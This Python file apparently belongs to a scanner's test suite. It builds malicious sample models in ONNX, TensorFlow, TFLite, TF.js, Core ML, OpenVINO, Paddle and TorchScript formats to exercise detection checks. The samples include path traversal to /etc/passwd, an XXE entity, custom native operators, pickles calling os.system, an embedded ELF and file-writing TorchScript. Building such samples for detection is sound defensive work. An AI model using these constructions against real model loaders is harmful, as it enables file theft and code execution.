"""Kinds that live in computation graphs: ONNX, TensorFlow and its relatives, Core ML, OpenVINO, PaddlePaddle, TorchScript."""

from __future__ import annotations

import json
from collections.abc import Callable

from attacks import archives, graphs
from attacks.graphs import message, onnx, onnx_function, onnx_graph, onnx_node, onnx_tensor, tensorflow_node
from attacks.kinds.kind import Files, Kind, Link
from attacks.programs import ELF


def _onnx(
    name: str,
    does: str,
    words: str,
    build: Callable[[], bytes],
    check: str = "onnx-custom-operators",
    **beside: bytes | Link,
) -> Kind:
    return Kind(
        id=f"onnx-{name}", does=does, check=check, words=(words,), honest="onnx",
        files=lambda: {"model.onnx": build(), **{f"{stem}.bin": content for stem, content in beside.items()}},
    )  # fmt: skip


def _away(location: str, **more: str) -> Callable[[], bytes]:
    return lambda: onnx(tensors=[onnx_tensor("w", (2,), {"location": location, **more})])


def _subgraph(node: bytes = b"", tensor: bytes = b"") -> bytes:
    """The attribute `then_branch`, a graph with this node or tensor."""
    return message(
        (1, "then_branch"), (6, onnx_graph(node or onnx_node(), tensors=[tensor] if tensor else ())), (20, 5)
    )


OUTSIDE = onnx_tensor("w", (2,), {"location": "../../secret"})

ONNX = (
    _onnx("external-parent", "reads a file above the folder (CVE-2022-25882, CVE-2024-27318)", "climbs out with '..'", _away("../../../etc/passwd"), "onnx-external-data"),
    _onnx("external-absolute", "reads any file into the weights", "which is an absolute path", _away("/etc/passwd"), "onnx-external-data"),
    _onnx("external-windows", "the same with the other separator", "climbs out with '..'", _away("x\\..\\..\\secret"), "onnx-external-data"),
    _onnx("external-drive", "the same on a drive", "names a drive", _away("C:\\secret"), "onnx-external-data"),
    _onnx("external-share", "logs in to a share of the attacker", "is an absolute path", _away("\\\\host\\share\\w"), "onnx-external-data"),
    _onnx("external-url", "reaches the network", "is a URL", _away("https://example.org/w.bin"), "onnx-external-data"),
    _onnx("external-link", "reads a file through a link (CVE-2025-51480, CVE-2026-34447)", "a link to '/etc/passwd'", _away("w.bin"), "onnx-external-data", w=Link(to="/etc/passwd")),
    _onnx("external-past-the-end", "reads memory behind the file", "past its end at 16", _away("w.bin", offset="12", length="8"), "onnx-external-data", w=b"\1" * 16),
    _onnx("external-oversize", "more bytes than the tensor has", "while FLOAT [2] needs 8", _away("w.bin", length="16"), "onnx-external-data", w=b"\1" * 16),
    _onnx("external-memory", "takes an address of the loader's memory for weights", "an address in the loader's memory", _away("*/_ORT_MEM_ADDR_/*", offset="4096"), "onnx-external-data"),
    _onnx("external-attribute", "changes the loader's own record", "sets '__class__'", _away("w.bin", __class__="x"), "onnx-external-data", w=b"\1" * 8),
    _onnx("external-in-subgraph", "the same in a graph inside a node", "climbs out with '..'", lambda: onnx(onnx_node("If", "", _subgraph(tensor=OUTSIDE))), "onnx-external-data"),
    _onnx("external-in-constant", "the same in the attribute of a node", "climbs out with '..'", lambda: onnx(onnx_node("Constant", "", message((1, "value"), (5, OUTSIDE), (20, 4)))), "onnx-external-data"),
    _onnx("external-in-function", "the same in a function of the file", "climbs out with '..'", lambda: onnx(functions=[onnx_function("F", "local", onnx_node("Constant", "", message((1, "value"), (5, OUTSIDE), (20, 4))))]), "onnx-external-data"),
    _onnx("external-in-training", "the same in what only training reads", "climbs out with '..'", lambda: onnx(more=[(20, message((1, onnx_graph(onnx_node(), tensors=[OUTSIDE]))))]), "onnx-external-data"),
    _onnx("custom-domain", "needs a native library of the publisher", "the custom domain 'com.evil'", lambda: onnx(onnx_node("Run", "com.evil"))),
    _onnx("custom-in-subgraph", "the same in a graph inside a node", "the custom domain 'com.evil'", lambda: onnx(onnx_node("If", "", _subgraph(onnx_node("Run", "com.evil"))))),
    _onnx("custom-in-function", "the same in a function of the file", "the custom domain 'com.evil'", lambda: onnx(functions=[onnx_function("F", "local", onnx_node("Run", "com.evil"))])),
    _onnx("custom-in-training", "the same in what only training runs", "the custom domain 'com.evil'", lambda: onnx(more=[(20, message((2, onnx_graph(onnx_node("Run", "com.evil")))))])),
    _onnx("python-operator", "calls a Python function by name", "call a Python function that the file names", lambda: onnx(onnx_node("PyOp", "pyop"))),
    _onnx("compiled", "runs a program compiled for one device", "a program compiled for one device", lambda: onnx(onnx_node("EPContext", "com.microsoft"))),
    _onnx("shadowed-operator", "gives a standard operator another meaning", "in place of the standard operator", lambda: onnx(functions=[onnx_function("Relu", "", onnx_node("Neg"))])),
    _onnx("unknown-operator", "an operator that nobody defines", "which the ONNX specification does not define", lambda: onnx(onnx_node("Download"))),
    _onnx("metadata-code", "Python for whoever evaluates the metadata", "os.system", lambda: onnx(more=[(14, message((1, "setup"), (2, "__import__('os').system('echo hilt')")))]), "metadata-code"),
    _onnx("hidden-bytes", "bytes in a field that no reader knows", "belong to no part of the file", lambda: onnx(more=[(999, b"\x80\x04cos\nsystem\n(S'echo hilt'\ntR." * 8)]), "hidden-bytes"),
)  # fmt: skip


def _tensorflow(
    name: str,
    does: str,
    words: str,
    build: Callable[[], Files],
    check: str = "tensorflow-operators",
    honest: str = "saved-model",
) -> Kind:
    return Kind(id=f"tensorflow-{name}", does=does, check=check, words=(words,), honest=honest, files=build)


def _node(*operators: str, function: str = "", **more: str) -> Callable[[], Files]:
    """A SavedModel with these operators, in a function where one is named."""
    nodes = [tensorflow_node(operator, f"n{index}", **more) for index, operator in enumerate(operators)]
    placed = {function: nodes} if function else {}
    return lambda: {
        "saved_model.pb": graphs.saved_model(*([] if function else nodes), functions={**graphs.SAVER, **placed})
    }


TENSORFLOW = (
    _tensorflow("read-file", "copies any file into the answer", "ReadFile", _node("ReadFile")),
    _tensorflow("write-file", "writes any file", "WriteFile", _node("WriteFile")),
    _tensorflow("matching-files", "lists any folder", "MatchingFiles", _node("MatchingFiles")),
    _tensorflow("in-function", "the same in a function of the graph", "in the function '__inference_call_7'", _node("ReadFile", function="__inference_call_7")),
    _tensorflow("in-saver", "the same behind the name of the saver", "WriteFile (in the function '__inference__traced_save_9'", _node("WriteFile", function="__inference__traced_save_9")),
    _tensorflow("py-func", "calls Python", "PyFunc", _node("PyFunc")),
    _tensorflow("eager-py-func", "calls Python", "EagerPyFunc", _node("EagerPyFunc")),
    _tensorflow("save-outside-saver", "writes a checkpoint over any file", "outside the saver", _node("SaveV2", function="__inference_call_7")),
    _tensorflow("print", "writes tensors to a file", "writes tensors to 'file:///tmp/hilt'", _node("PrintV2", output_stream="file:///tmp/hilt")),
    _tensorflow("debug", "sends tensors to a server", "writes tensors to 'grpc://", _node("DebugIdentityV2", debug_urls="grpc://example.org:80")),
    _tensorflow("table", "reads a vocabulary from any file", "reads a vocabulary", _node("InitializeTableFromTextFileV2")),
    _tensorflow("data-set", "reads records from any file", "TFRecordDataset", _node("TFRecordDataset")),
    _tensorflow("decode-proto", "loads descriptions of messages from a file", "DecodeProtoV2", _node("DecodeProtoV2", descriptor_source="/tmp/evil.desc")),
    _tensorflow("data-set-files", "lists folders", "MatchingFilesDataset", _node("MatchingFilesDataset")),
    _tensorflow("data-set-write", "writes records to any file", "DatasetToTFRecord", _node("DatasetToTFRecord")),
    _tensorflow("data-set-old-name", "reads a database by an old name", "ExperimentalSqlDataset", _node("ExperimentalSqlDataset")),
    _tensorflow("graph-in-graph", "runs a graph that is hidden in a text", "DatasetFromGraph", _node("DatasetFromGraph")),
    _tensorflow("text-form", "the same, as text, which TensorFlow loads as well", "ReadFile", lambda: {"saved_model.pbtxt": b'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: "n"\n      op: "ReadFile"\n    }\n  }\n}\n'}, honest="frozen-graph"),
    _tensorflow("rpc", "talks to a server of the graph's choice", "RpcClient", _node("RpcClient")),
    _tensorflow("native", "runs a compiled program", "TRTEngineOp", _node("TRTEngineOp")),
    _tensorflow("custom-operator", "needs a native library of the publisher", "EvilOp", _node("EvilOp")),
    _tensorflow("asset-parent", "takes an asset from above the folder", "the asset '../../etc/passwd' climbs out", lambda: {"saved_model.pb": graphs.saved_model(functions=graphs.SAVER, assets=["../../etc/passwd"])}),
    _tensorflow("frozen-graph", "the same in a graph of its own", "ReadFile", lambda: {"frozen.pb": graphs.tensorflow_graph(tensorflow_node("Placeholder"), tensorflow_node("ReadFile"))}, honest="frozen-graph"),
    _tensorflow("checkpoint-graph", "the same in the graph of a checkpoint", "ReadFile", lambda: {"model.meta": graphs.meta_graph(graphs.tensorflow_graph(tensorflow_node("ReadFile")))}, honest="frozen-graph"),
)  # fmt: skip


def _one(name: str, does: str, words: str, check: str, honest: str, path: str, build: Callable[[], bytes]) -> Kind:
    return Kind(id=name, does=does, check=check, words=(words,), honest=honest, files=lambda: {path: build()})


def _tfjs(**changed: object) -> bytes:
    model = {
        "format": "layers-model",
        "generatedBy": "keras v2.15.0",
        "convertedBy": "TensorFlow.js Converter v4.22.0",
        "modelTopology": {
            "keras_version": "2.15.0",
            "backend": "tensorflow",
            "model_config": {
                "class_name": "Sequential",
                "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"name": "d", "units": 2}}]},
            },
        },
        "weightsManifest": [
            {"paths": ["group1-shard1of1.bin"], "weights": [{"name": "d/kernel", "shape": [2], "dtype": "float32"}]}
        ],
    }
    return json.dumps(model | changed).encode()  # fmt: skip


def _layers(*layers: object) -> dict[str, object]:
    return {
        "keras_version": "2.15.0",
        "model_config": {"class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}},
    }


def _manifest(path: str) -> list[object]:
    return [{"paths": [path], "weights": [{"name": "w", "shape": [2], "dtype": "float32"}]}]


def _script(body: str, name: str = "forward") -> Callable[[], bytes]:
    code = f"class Net(Module):\n  def {name}(self: __torch__.Net, x: Tensor) -> Tensor:\n    {body}\n    return x\n"
    return lambda: archives.torchscript(code)


def _with_metadata(part: archives.Part) -> bytes:
    """A model with a zip of labels behind it, as TensorFlow Lite's own tool appends it."""
    return archives.zip_of(part, end=archives.End(prefix=graphs.tflite(), corrected=True))


OTHERS = (
    _one("tflite-custom", "needs a native library of the publisher", "the custom operator 'EvilOp'", "tflite-custom-operators", "tflite", "model.tflite", lambda: graphs.tflite("EvilOp")),
    _one("tflite-flex-file", "reads files through full TensorFlow", "FlexReadFile", "tflite-custom-operators", "tflite", "model.tflite", lambda: graphs.tflite("FlexReadFile")),
    _one("tflite-flex-unknown", "an operator of a library that full TensorFlow loads", "EvilOp", "tflite-custom-operators", "tflite", "model.tflite", lambda: graphs.tflite("FlexEvilOp")),
    _one("tflite-outside", "reads behind the file", "lies outside the file", "tflite-custom-operators", "tflite", "model.tflite", lambda: graphs.tflite(appended=[(10**6, 64)])),
    _one("tflite-external-weights", "takes weights from elsewhere", "climbs out with '..'", "tflite-custom-operators", "tflite", "model.tflite", lambda: graphs.tflite(files=["../../etc/passwd"])),
    _one("tflite-metadata-slip", "unpacks outside the folder", "climbs out with '..'", "archive-escape", "tflite", "model.tflite", lambda: _with_metadata(archives.Part(name="../../evil.txt", data=b"x"))),
    _one("tflite-metadata-program", "a program among the labels", "ELF", "native-code", "tflite", "model.tflite", lambda: _with_metadata(archives.Part(name="labels.txt", data=ELF))),
    Kind(id="tfjs-parent", does="reads any file of the machine as weights", check="tfjs-weights", words=("climbs out with '..'",), honest="tfjs", files=lambda: {"model.json": _tfjs(weightsManifest=_manifest("../../../etc/passwd"))}),
    Kind(id="tfjs-url", does="fetches from where the publisher likes", check="tfjs-weights", words=("is a URL",), honest="tfjs", files=lambda: {"model.json": _tfjs(weightsManifest=_manifest("https://example.org/x.bin"))}),
    Kind(id="tfjs-protocol-relative", does="the same without a scheme", check="tfjs-weights", words=("absolute path",), honest="tfjs", files=lambda: {"model.json": _tfjs(weightsManifest=_manifest("//example.org/x.bin"))}),
    Kind(id="tfjs-custom-layer", does="needs code that is not in the model", check="tfjs-code", words=("EvilLayer",), honest="tfjs", files=lambda: {"model.json": _tfjs(modelTopology=_layers({"class_name": "EvilLayer", "config": {"name": "e"}})), "group1-shard1of1.bin": b"\0" * 8}),
    Kind(id="tfjs-lambda", does="stored code for a loader that runs it", check="tfjs-code", words=("Lambda",), honest="tfjs", files=lambda: {"model.json": _tfjs(modelTopology=_layers({"class_name": "Lambda", "config": {"name": "e", "function": ["4wEAAA==", None, None], "function_type": "lambda"}})), "group1-shard1of1.bin": b"\0" * 8}),
    Kind(id="tfjs-graph-operator", does="an operator that reads files, for a converter back", check="tfjs-code", words=("ReadFile",), honest="tfjs", files=lambda: {"model.json": _tfjs(format="graph-model", modelTopology={"node": [{"name": "n", "op": "ReadFile"}], "library": {}}), "group1-shard1of1.bin": b"\0" * 8}),
    _one("coreml-custom-layer", "runs a class of the application", "needs the class 'EvilLayer'", "coreml-custom-layers", "coreml", "model.mlmodel", lambda: graphs.coreml(500, graphs.coreml_network("EvilLayer"))),
    _one("coreml-custom-model", "runs a class of the application", "needs the class 'EvilModel'", "coreml-custom-layers", "coreml", "model.mlmodel", lambda: graphs.coreml(555, message((1, "EvilModel")))),
    _one("coreml-custom-in-pipeline", "the same, in a model in a model", "needs the class 'EvilLayer'", "coreml-custom-layers", "coreml", "model.mlmodel", lambda: graphs.coreml(202, message((1, graphs.coreml(500, graphs.coreml_network("EvilLayer")))))),
    _one("coreml-linked", "loads another model from elsewhere", "loads another model from '../../evil.mlmodelc'", "coreml-custom-layers", "coreml", "model.mlmodel", lambda: graphs.coreml(556, message((1, message((1, message((1, "../../evil.mlmodelc")))))))),
    _one("coreml-weights-away", "reads any file as weights", "climbs out with '..'", "coreml-custom-layers", "coreml", "model.mlmodel", lambda: graphs.coreml(502, graphs.coreml_program("conv", weights="@model_path/../../secret"))),
    _one("coreml-custom-operation", "an operation of the application", "of the custom type 'custom_evil'", "coreml-custom-layers", "coreml", "model.mlmodel", lambda: graphs.coreml(502, graphs.coreml_program("custom_evil"))),
    Kind(id="openvino-extension", does="needs a native library of the publisher", check="openvino-extensions", words=("needs an extension", "Evil"), honest="openvino", files=lambda: {"model.xml": graphs.openvino(("Evil", "evil_ops")), "model.bin": b"\1" * 8}),
    Kind(id="openvino-custom-type", does="the same under OpenVINO's own set", check="openvino-extensions", words=("EvilLayer",), honest="openvino", files=lambda: {"model.xml": graphs.openvino(("EvilLayer", "opset1")), "model.bin": b"\1" * 8}),
    Kind(id="openvino-hidden-bytes", does="bytes among the weights that no constant owns", check="unknown-file", words=("no reader knows",), honest="openvino", files=lambda: {"model.xml": graphs.openvino(), "model.bin": bytes(range(100, 228))}),
    Kind(id="openvino-entity", does="reads a file while the model is parsed", check="xml-entities", words=("'/etc/passwd'",), honest="openvino", files=lambda: {"model.xml": b'<?xml version="1.0"?><!DOCTYPE net [<!ENTITY x SYSTEM "/etc/passwd">]><net name="&x;" version="11"><layers/></net>'}),
    _one("paddle-py-func", "calls Python", "py_func (1 time) calls a Python function", "paddle-operators", "paddle", "inference.pdmodel", lambda: graphs.paddle("py_func")),
    _one("paddle-save", "writes any file", "'/tmp/hilt'", "paddle-operators", "paddle", "inference.pdmodel", lambda: graphs.paddle("save_combine", path="/tmp/hilt")),
    _one("paddle-load", "reads any file", "'/etc/passwd'", "paddle-operators", "paddle", "inference.pdmodel", lambda: graphs.paddle("load", path="/etc/passwd")),
    _one("paddle-network", "talks to other machines", "opens connections", "paddle-operators", "paddle", "inference.pdmodel", lambda: graphs.paddle("listen_and_serv")),
    _one("torchscript-save", "writes any file", "torch.save writes a file", "torchscript-code", "torchscript", "model.pt", _script('torch.save(x, "/tmp/hilt")')),
    _one("torchscript-from-file", "maps any file into memory", "torch.from_file maps a file", "torchscript-code", "torchscript", "model.pt", _script('y = torch.from_file("/etc/passwd", False, 9)')),
    _one("torchscript-read-file", "reads any file", "ops.image.read_file reads a file", "torchscript-code", "torchscript", "model.pt", _script('y = ops.image.read_file("/etc/passwd")')),
    _one("torchscript-alias", "the same by another name", "ops.aten.save writes a file", "torchscript-code", "torchscript", "model.pt", _script('f = ops.aten.save\n    f(x, "/tmp/hilt")')),
    _one("torchscript-on-load", "the same while the archive is loaded", "while it is loaded", "torchscript-code", "torchscript", "model.pt", _script('torch.save(x, "/tmp/hilt")', "__setstate__")),
    _one("torchscript-library", "calls a library that nobody knows", "names ops.evil.run", "torchscript-code", "torchscript", "model.pt", _script("ops.evil.run(x)")),
    _one("torchscript-class", "makes an object of an unknown library", "the C++ class evil.Run", "torchscript-code", "torchscript", "model.pt", _script("y = __torch__.torch.classes.evil.Run(x)")),
    _one("torchscript-python", "Python where TorchScript should be", "names import", "torchscript-code", "torchscript", "model.pt", _script("import os")),
    _one("torchscript-network", "calls other machines", "calls another machine", "torchscript-code", "torchscript", "model.pt", _script('rpc_async("worker", f)')),
    _one("torchscript-extra-pickle", "a pickle among the extra files", "os.system", "pickle-code", "torchscript", "model.pt", lambda: archives.torchscript(CODE, archives.Part(name="net/extra/x.pkl", data=b"cos\nsystem\n(S'echo hilt'\ntR."))),
)  # fmt: skip

CODE = "class Net(Module):\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    return torch.relu(x)\n"

HONEST: dict[str, Callable[[], Files]] = {
    "onnx": lambda: {"model.onnx": onnx(onnx_node(), onnx_node("If", "", _subgraph()), tensors=[onnx_tensor(), onnx_tensor("x", (2,), {"location": "w.bin", "offset": "0", "length": "8"})], functions=[onnx_function("F", "local", onnx_node())], more=[(14, message((1, "description"), (2, "Open the file; import the model (see https://example.org).")))]), "w.bin": b"\1" * 8},
    "frozen-graph": lambda: {"frozen.pb": graphs.HONEST["tensorflow-graph"][1], "graph.pbtxt": graphs.HONEST["tensorflow-text"][1]},
    "tflite": lambda: {"model.tflite": _with_metadata(archives.Part(name="labels.txt", data=b"cat\ndog\n"))},
    "tfjs": lambda: {"model.json": _tfjs(), "group1-shard1of1.bin": b"\0" * 8},
    "coreml": lambda: {"Model.mlpackage/Data/com.apple.CoreML/model.mlmodel": graphs.HONEST["coreml"][1], "Model.mlpackage/Data/com.apple.CoreML/weights/weight.bin": graphs.coreml_weights(12, 100)},
    "openvino": lambda: {"model.xml": graphs.openvino(), "model.bin": b"\1" * 8},
    "paddle": lambda: {"inference.pdmodel": graphs.paddle("feed", "conv2d", "fetch", parameters=["b"]), "inference.pdiparams": graphs.paddle_parameters((4,))},
    "torchscript": lambda: {"model.pt": archives.torchscript(CODE)},
}  # fmt: skip
